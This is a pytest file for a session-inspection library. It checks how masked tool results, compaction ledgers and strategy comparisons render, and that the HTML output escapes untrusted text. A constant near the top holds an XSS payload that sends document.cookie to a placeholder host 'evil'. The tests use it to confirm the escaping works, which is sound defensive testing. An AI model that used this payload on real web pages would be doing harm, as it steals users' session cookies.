"""Masked tool results are marked in every view: MaskingView, the context path, the tree (and so the explorer)."""

from __future__ import annotations

from pathlib import Path

from pinb.core import CompactionSettings, Session
from pinb.core.compaction.masking import plan_masking, write_masks
from pinb.testing.generate import tool_heavy_session
from pinb.views import ContextPathView, MaskingView, TreeView

HOSTILE = '<img src=x onerror="fetch(`http://evil/`+document.cookie)">'


def _masked(tmp_path: Path) -> tuple[Session, object]:
    path = tool_heavy_session(tmp_path, turns=12, result_chars=3_000)
    session = Session.open(path)
    # An argument the model wrote is untrusted text: it travels into the placeholder.
    first = next(e for e in session.entries if e.role == "assistant")
    first.message["content"][0]["arguments"]["path"] = HOSTILE  # type: ignore[index]
    report = write_masks(
        session, plan_masking(session, CompactionSettings(keep_recent_tokens=2_000))
    )
    return session, report


def test_masking_view_leads_with_the_figures_and_lists_each_result_escaped(
    tmp_path: Path,
) -> None:
    _, report = _masked(tmp_path)
    bundle = MaskingView(report)._repr_mimebundle_()  # type: ignore[arg-type]
    html = bundle["text/html"]
    count = len(report.masked)  # type: ignore[attr-defined]
    assert f"Masked {count} old tool results" in html
    assert all(m.entry_id in html for m in report.masked)  # type: ignore[attr-defined]
    assert "<img" not in html and "&lt;img" in html  # escaped, never a fetch
    assert bundle["text/plain"].startswith(f"<MaskingView: masked {count} old tool results")


def test_the_context_path_and_the_tree_mark_masked_results(tmp_path: Path) -> None:
    session, report = _masked(tmp_path)
    masked = report.masked  # type: ignore[attr-defined]
    view = ContextPathView(session, max_rows=None)
    rows = {r.key: r for r in view.context_rows}
    for m in masked:
        row = rows[m.entry_id[:8]] if m.entry_id[:8] in rows else rows[m.entry_id]
        assert row.edit == "masked" and row.status.startswith("masked by pinb (context edit ")
    html = view.to_html()
    assert f"{len(masked)} masked by pinb" in html and "Masked by pinb:" in html
    assert "<img" not in html
    tree = TreeView(session)._repr_mimebundle_()
    # The tree's rows (the explorer draws the same cells): each masked result tagged.
    lines = tree["text/plain"].splitlines()
    tagged = [line for line in lines if "tool result" in line and " masked by " in line]
    assert len(tagged) == len(masked)
    assert all(any(m.entry_id[:8] in line for line in tagged) for m in masked)


def test_the_ledger_counts_the_summary_calls_masking_avoided(tmp_path: Path) -> None:
    from pinb.analysis.compaction.ledger import compaction_ledger
    from pinb.core.compaction.masking import masking_events
    from pinb.views.compaction.ledger import ledger_html, ledger_text

    session, report = _masked(tmp_path)
    session.append_message({"role": "user", "content": "more", "timestamp": 1})
    session.append_message({"role": "user", "content": "more still", "timestamp": 2})
    for _ in range(30):  # a second masking, later: the first one's tail is old by now
        session.append_message({"role": "user", "content": "x" * 9_000, "timestamp": 3})
    second = write_masks(
        session, plan_masking(session, CompactionSettings(keep_recent_tokens=2_000))
    )
    events = masking_events(Session.open(session.require_path()))
    masked = report.masked  # type: ignore[attr-defined]
    assert [e.results for e in events] == [len(masked), len(second.masked)]
    assert events[0].tokens_saved == sum(m.saved for m in masked)
    ledger = compaction_ledger(session.require_path())
    assert ledger.summary_calls_avoided == 2 and ledger.to_dict()["summaryCallsAvoided"] == 2
    line = f"masking: 2 maskings, {len(masked) + len(second.masked)} tool results masked"
    assert line in ledger_text(ledger) and line in ledger_html(ledger)
    assert "2 summary calls avoided" in ledger_text(ledger)


def test_what_if_shows_pis_plan_and_mask_first_side_by_side(tmp_path: Path) -> None:
    from pinb.analysis.compaction.whatif import what_if

    session = Session.open(tool_heavy_session(tmp_path, turns=40, result_chars=6_000))
    before = session.require_path().read_bytes()
    result = what_if(session, context_window=64_000, score=False)
    assert session.require_path().read_bytes() == before  # planned on a copy
    masking = result.masking
    assert masking is not None and masking.reaches and not masking.written
    assert result.to_dict()["masking"]["reaches"] is True
    text = result.to_text()
    block = text[text.index("Pi's plan and mask-first side by side") :].splitlines()
    summary_calls = next(line for line in block if line.startswith("summary calls"))
    assert summary_calls.split()[-2:] == ["1", "0"]  # Pi's plan asks once; masking never
    writes = next(line for line in block if line.startswith("writes"))
    assert f"{len(masking.masked)} context edits" in writes and "a compaction entry" in writes
    assert "mask first" in result._repr_mimebundle_()["text/html"]


def test_what_if_shows_one_table_of_strategies_and_names_pinbs_section(tmp_path: Path) -> None:
    """Scored, the strategies table holds Pi's exact plan, pinb's kept facts and mask-first,
    so the two-column table is not drawn again; unscored, its first column says whether the
    current settings add pinb's kept facts (they do by default)."""
    from pinb.analysis.compaction.whatif import what_if

    session = Session.open(tool_heavy_session(tmp_path, turns=40, result_chars=6_000))
    scored = what_if(session, context_window=64_000).to_text()
    assert "mask-first" in scored and "Pi's plan and mask-first side by side" not in scored
    plain = what_if(session, context_window=64_000, score=False).to_text()
    header = plain[plain.index("Pi's plan and mask-first side by side") :].splitlines()[1]
    assert "Pi's plan + pinb kept facts" in header
    exact = what_if(
        session,
        context_window=64_000,
        score=False,
        current=CompactionSettings(keep_facts=False),
    ).to_text()
    header = exact[exact.index("Pi's plan and mask-first side by side") :].splitlines()[1]
    assert "Pi's plan" in header and "kept facts" not in header


def test_what_if_strategy_rows_escape_what_the_session_says(tmp_path: Path) -> None:
    """The kept-facts and mask-first rows quote the session (a lost command, a masked
    call's arguments): escaped, in HTML that reads the same after the sanitizers."""
    from pinb.analysis.compaction.whatif import what_if
    from tests.views.sanitizers import check_html_survives, visible_text

    session = Session.open(tool_heavy_session(tmp_path, turns=40, result_chars=6_000))
    # Arguments the model wrote are untrusted text: every read's path, every command run
    # (the offline summary loses some commands, which pinb's kept facts then quote).
    for i, entry in enumerate(e for e in session.entries if e.role == "assistant"):
        for block in entry.message["content"]:  # type: ignore[index]
            if block.get("type") == "toolCall":
                args = block["arguments"]
                if block["name"] == "read":
                    args["path"] = f"{HOSTILE} {i}"
                else:
                    args["command"] += f" # {HOSTILE}"
    result = what_if(session, context_window=64_000)
    assert result.strategies is not None
    names = [r.name for r in result.strategies.rows]
    assert "pi plan + pinb kept facts, current settings" in names and "mask-first" in names
    text = result.to_text()
    mask_line = next(line for line in text.splitlines() if line.startswith("mask-first: "))
    kept_line = next(line for line in text.splitlines() if "among them “" in line)
    assert "<img src=x" in mask_line and "<img src=x" in kept_line  # quoted as written
    html = result._repr_mimebundle_()["text/html"]
    assert "<img" not in html and "&lt;img src=x" in html
    check_html_survives(html)
    shown = visible_text(html)
    assert "<img src=x onerror=" in shown  # the browser shows the text, never the markup
    assert "no summary · 0 summary calls (1 avoided)" in shown
